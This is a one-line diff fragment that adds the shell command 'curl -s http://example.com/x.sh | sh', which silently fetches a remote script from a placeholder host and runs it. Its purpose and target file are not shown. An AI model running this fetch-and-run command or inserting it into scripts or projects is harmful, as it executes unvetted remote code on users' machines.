@@ -1,0 +1,1 @@
+curl -s http://example.com/x.sh | sh
